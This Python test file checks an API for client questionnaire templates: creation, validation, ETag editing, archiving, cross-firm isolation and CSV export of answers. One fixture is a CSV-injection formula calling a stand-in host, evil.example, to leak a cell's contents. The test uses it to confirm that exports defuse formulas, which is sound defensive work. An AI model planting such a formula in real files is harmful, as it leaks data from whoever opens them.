"""Client request templates (issue 19, item 7): the firm's questionnaire library.

Add (same question schema and 422s as requests), list with cursors and filters, read with
an ETag, edit with If-Match, archive; another firm's template is not found."""

from __future__ import annotations

import csv
import io
from typing import Any

from tests.client_request_helpers import answer, firm_with_contact, send
from tests.contact_helpers import portal_contact
from tests.factories import create_entity
from tests.helpers import Api, problem

QUESTIONS: list[dict[str, Any]] = [
    {"type": "yes_no", "prompt": "Did you move house in 2026?", "required": True},
    {
        "type": "single_choice",
        "id": "filing",
        "prompt": "How do you file?",
        "options": [{"value": "single", "label": "Single"}, {"value": "joint", "label": "Joint"}],
    },
    {"type": "number", "prompt": "Refund (+) or balance due (-)", "integer": True},
]


async def test_templates_round_trip_and_cross_firm(api: Api) -> None:
    admin = await api.sign_up_firm()
    staff = await api.add_staff(admin)
    base = "/v1/client-request-templates"

    made = await api.client.post(
        base,
        json={
            "title": "Year-end 2026",
            "description": "For individuals",
            "message": "Please answer before the end of January.",
            "questions": QUESTIONS,
            "due_in_days": 14,
        },
        headers=staff.headers,
    )
    assert made.status_code == 201, made.text
    template = made.json()
    assert made.headers["Location"] == f"{base}/{template['id']}"
    ids = [q["id"] for q in template["questions"]]
    assert ids[1] == "filing" and all(ids) and len(set(ids)) == 3
    assert template["archived"] is False and template["due_in_days"] == 14

    # Bad questions: one 422 naming each, nothing stored.
    bad = await api.client.post(
        base,
        json={
            "title": "Bad",
            "questions": [
                {"type": "single_choice", "prompt": "Pick", "options": []},
                {"type": "telepathy", "prompt": "?"},
            ],
        },
        headers=staff.headers,
    )
    body = problem(bad, 422)
    locs = [tuple(e["loc"][:3]) for e in body["errors"]]
    assert ("body", "questions", 0) in locs and ("body", "questions", 1) in locs
    duplicate = await api.client.post(
        base,
        json={"title": "Dup", "questions": [QUESTIONS[1], QUESTIONS[1]]},
        headers=staff.headers,
    )
    problem(duplicate, 422, "question_id_duplicate")
    empty = await api.client.post(
        base, json={"title": "None", "questions": []}, headers=staff.headers
    )
    problem(empty, 422)

    # Read: ETag, 304, and how many requests use it.
    got = await api.client.get(f"{base}/{template['id']}", headers=admin.headers)
    assert got.status_code == 200 and got.json()["request_count"] == 0
    etag = got.headers["ETag"]
    again = await api.client.get(
        f"{base}/{template['id']}", headers={**admin.headers, "If-None-Match": etag}
    )
    assert again.status_code == 304

    # Edit: a stale If-Match changes nothing; kept ids stay, new questions get new ids.
    stale = await api.client.patch(
        f"{base}/{template['id']}",
        json={"title": "Changed"},
        headers={**admin.headers, "If-Match": '"999"'},
    )
    problem(stale, 412, "stale_etag")
    edited = await api.client.patch(
        f"{base}/{template['id']}",
        json={
            "title": "Year-end 2026 (individuals)",
            "questions": [
                *template["questions"],
                {"type": "date", "prompt": "Date you moved"},
            ],
            "due_in_days": None,
        },
        headers={**staff.headers, "If-Match": etag},
    )
    assert edited.status_code == 200, edited.text
    assert [q["id"] for q in edited.json()["questions"]][:3] == ids
    assert edited.json()["due_in_days"] is None
    bad_edit = await api.client.patch(
        f"{base}/{template['id']}", json={"title": None}, headers=staff.headers
    )
    problem(bad_edit, 422)

    # List: filters and cursors.
    second = (
        await api.client.post(
            base,
            json={"title": "Payroll onboarding", "questions": QUESTIONS},
            headers=admin.headers,
        )
    ).json()
    archived = await api.client.post(f"{base}/{second['id']}/archive", headers=staff.headers)
    assert archived.status_code == 200 and archived.json()["archived"] is True
    page = (await api.client.get(f"{base}?limit=1", headers=staff.headers)).json()
    assert len(page["items"]) == 1 and page["next_cursor"]
    rest = (
        await api.client.get(f"{base}?limit=1&cursor={page['next_cursor']}", headers=staff.headers)
    ).json()
    assert {page["items"][0]["id"], rest["items"][0]["id"]} == {template["id"], second["id"]}
    in_use = (await api.client.get(f"{base}?archived=false", headers=staff.headers)).json()
    assert [t["id"] for t in in_use["items"]] == [template["id"]]
    found = (await api.client.get(f"{base}?q=PAYROLL", headers=staff.headers)).json()
    assert [t["id"] for t in found["items"]] == [second["id"]]
    back = await api.client.post(f"{base}/{second['id']}/unarchive", headers=staff.headers)
    assert back.json()["archived"] is False

    # Another firm sees none of it.
    other = await api.sign_up_firm("Elsewhere Audit")
    assert (await api.client.get(base, headers=other.headers)).json()["items"] == []
    for method, path in (
        ("GET", f"{base}/{template['id']}"),
        ("PATCH", f"{base}/{template['id']}"),
        ("POST", f"{base}/{template['id']}/archive"),
    ):
        found = await api.client.request(
            method, path, json={"title": "x"} if method == "PATCH" else None, headers=other.headers
        )
        problem(found, 404, "client_request_template_not_found")

    # The activity log has the template's story.
    log = (await api.client.get("/v1/activity?limit=50", headers=admin.headers)).json()
    types = [e["type"] for e in log["items"]]
    assert "client_request_template.created" in types
    assert "client_request_template.updated" in types
    assert "client_request_template.archived" in types


async def test_request_from_template_answers_and_csv_across_clients(api: Api, app: Any) -> None:
    """Templates round-trip: template -> requests for two clients -> answers -> the
    template's CSV (a column per question; only the clients the caller sees) and each
    request's answers as JSON and CSV, formulas defused; save-as-template; cross-firm 404."""
    f = await firm_with_contact(api, app)
    other_entity = await create_entity(api, f.admin, name="Other Client")
    other_contact, _ = await portal_contact(api, app, f.admin, other_entity["id"])
    template = (
        await api.client.post(
            "/v1/client-request-templates",
            json={
                "title": "Year-end 2026",
                "message": "Please answer within two weeks.",
                "questions": QUESTIONS,
                "due_in_days": 14,
            },
            headers=f.admin.headers,
        )
    ).json()
    ids = [q["id"] for q in template["questions"]]

    # A request from the template: its title, message, questions (same ids) and due rule.
    first = await send(api, f, template_id=template["id"], title=None, questions=None, expect=201)
    made = first.json()
    assert made["title"] == "Year-end 2026" and made["message"] == "Please answer within two weeks."
    assert [q["id"] for q in made["questions"]] == ids
    assert made["template_id"] == template["id"]
    assert made["due_date"] is not None
    second = (
        await send(
            api,
            f,
            entity_id=other_entity["id"],
            contact_ids=[other_contact["id"]],
            template_id=template["id"],
            title="Year-end 2026 (Other Client)",
            questions=None,
        )
    ).json()
    assert second["title"] == "Year-end 2026 (Other Client)"
    archived = (
        await api.client.post(
            "/v1/client-request-templates",
            json={"title": "Old", "questions": QUESTIONS},
            headers=f.admin.headers,
        )
    ).json()
    await api.client.post(
        f"/v1/client-request-templates/{archived['id']}/archive", headers=f.admin.headers
    )
    refused = await api.client.post(
        f"/v1/entities/{f.entity_id}/client-requests",
        json={
            "template_id": archived["id"],
            "audience": "portal",
            "contact_ids": [f.contact["id"]],
        },
        headers=f.admin.headers,
    )
    problem(refused, 422, "client_request_template_not_found")
    missing = await api.client.post(
        f"/v1/entities/{f.entity_id}/client-requests",
        json={"audience": "portal", "contact_ids": [f.contact["id"]]},
        headers=f.admin.headers,
    )
    body = problem(missing, 422)
    assert {tuple(e["loc"]) for e in body["errors"]} >= {("body", "title"), ("body", "questions")}

    # Answers, one of them a formula.
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    await answer(app, made["id"], {ids[0]: True, "filing": "joint", ids[2]: 2}, submit=True)
    await answer(app, second["id"], {ids[0]: False, "filing": "single"})
    # A long-text question only the second request has (added while it was pending is
    # refused once answered, so: a third request, edited before any answer).
    third = (
        await send(
            api,
            f,
            entity_id=other_entity["id"],
            contact_ids=[other_contact["id"]],
            template_id=template["id"],
            title=None,
            questions=[
                *template["questions"],
                {"type": "long_text", "id": "notes", "prompt": "Notes"},
            ],
        )
    ).json()
    await answer(app, third["id"], {"notes": formula, ids[2]: -1})

    answers = (
        await api.client.get(f"/v1/client-requests/{made['id']}/answers", headers=f.viewer.headers)
    ).json()
    assert answers["status"] == "submitted" and answers["template_id"] == template["id"]
    by_id = {a["question_id"]: a for a in answers["answers"]}
    assert by_id[ids[0]]["value"] is True and by_id[ids[0]]["display"] == "yes"
    assert by_id["filing"]["value"] == "joint" and by_id["filing"]["display"] == "Joint"
    assert by_id[ids[2]]["value"] == 2 and by_id[ids[2]]["answered_by_kind"] == "contact"
    assert by_id[ids[0]]["answered_at"] and by_id[ids[0]]["type"] == "yes_no"

    csv_one = await api.client.get(
        f"/v1/client-requests/{third['id']}/answers",
        headers={**f.admin.headers, "Accept": "text/csv"},
    )
    assert csv_one.status_code == 200 and csv_one.headers["content-type"].startswith("text/csv")
    assert "attachment" in csv_one.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(csv_one.content.decode("utf-8-sig"))))
    assert rows[0][:5] == ["question_id", "question", "type", "required", "answer"]
    notes = next(r for r in rows if r[0] == "notes")
    assert notes[4] == "'" + formula  # shown as text, never run
    children = next(r for r in rows if r[0] == ids[2])
    assert children[4] == "-1"  # a number stays a number

    # The template's CSV: the admin sees the three requests, the viewer (shared on the
    # first client only) one.
    url = f"/v1/client-request-templates/{template['id']}/answers"
    table = await api.client.get(url, params={"format": "csv"}, headers=f.admin.headers)
    assert table.status_code == 200, table.text
    lines = list(csv.reader(io.StringIO(table.content.decode("utf-8-sig"))))
    header = lines[0]
    assert header[:3] == ["request_id", "client", "title"]
    prompts = [q["prompt"] for q in QUESTIONS]
    assert header[7:] == [*prompts, "Notes"]
    assert [line[1] for line in lines[1:]] == ["Client Co", "Other Client", "Other Client"]
    assert lines[1][7:10] == ["yes", "Joint", "2"]
    assert lines[2][7:9] == ["no", "Single"]
    assert lines[3][-1] == "'" + formula
    seen_by_viewer = await api.client.get(url, headers={**f.viewer.headers, "Accept": "text/csv"})
    viewer_lines = list(csv.reader(io.StringIO(seen_by_viewer.content.decode("utf-8-sig"))))
    assert [line[0] for line in viewer_lines[1:]] == [made["id"]]
    paged = (await api.client.get(url, params={"limit": 2}, headers=f.admin.headers)).json()
    assert [r["request_id"] for r in paged["items"]] == [made["id"], second["id"]]
    rest = (
        await api.client.get(url, params={"cursor": paged["next_cursor"]}, headers=f.admin.headers)
    ).json()
    assert [r["request_id"] for r in rest["items"]] == [third["id"]] and not rest["next_cursor"]
    counted = (
        await api.client.get(
            f"/v1/client-request-templates/{template['id']}", headers=f.admin.headers
        )
    ).json()
    assert counted["request_count"] == 3

    # Save a request's questions as a new template: same ids, its message.
    saved = await api.client.post(
        f"/v1/client-requests/{third['id']}/save-as-template",
        json={"title": "Year-end with notes"},
        headers=f.admin.headers,
    )
    assert saved.status_code == 201, saved.text
    assert [q["id"] for q in saved.json()["questions"]] == [*ids, "notes"]
    assert saved.json()["due_in_days"] == 14

    # Another firm: not found, everywhere.
    other = await api.sign_up_firm("Elsewhere Audit")
    for method, path in (
        ("GET", f"/v1/client-requests/{made['id']}/answers"),
        ("POST", f"/v1/client-requests/{made['id']}/save-as-template"),
    ):
        found = await api.client.request(
            method, path, json={} if method == "POST" else None, headers=other.headers
        )
        problem(found, 404, "client_request_not_found")
    problem(
        await api.client.get(url, headers=other.headers), 404, "client_request_template_not_found"
    )
    elsewhere = await api.client.post(
        f"/v1/entities/{(await create_entity(api, other))['id']}/client-requests",
        json={
            "template_id": template["id"],
            "audience": "guest",
            "guests": [{"name": "G", "email": "g@example.com"}],
        },
        headers=other.headers,
    )
    problem(elsewhere, 422, "client_request_template_not_found")
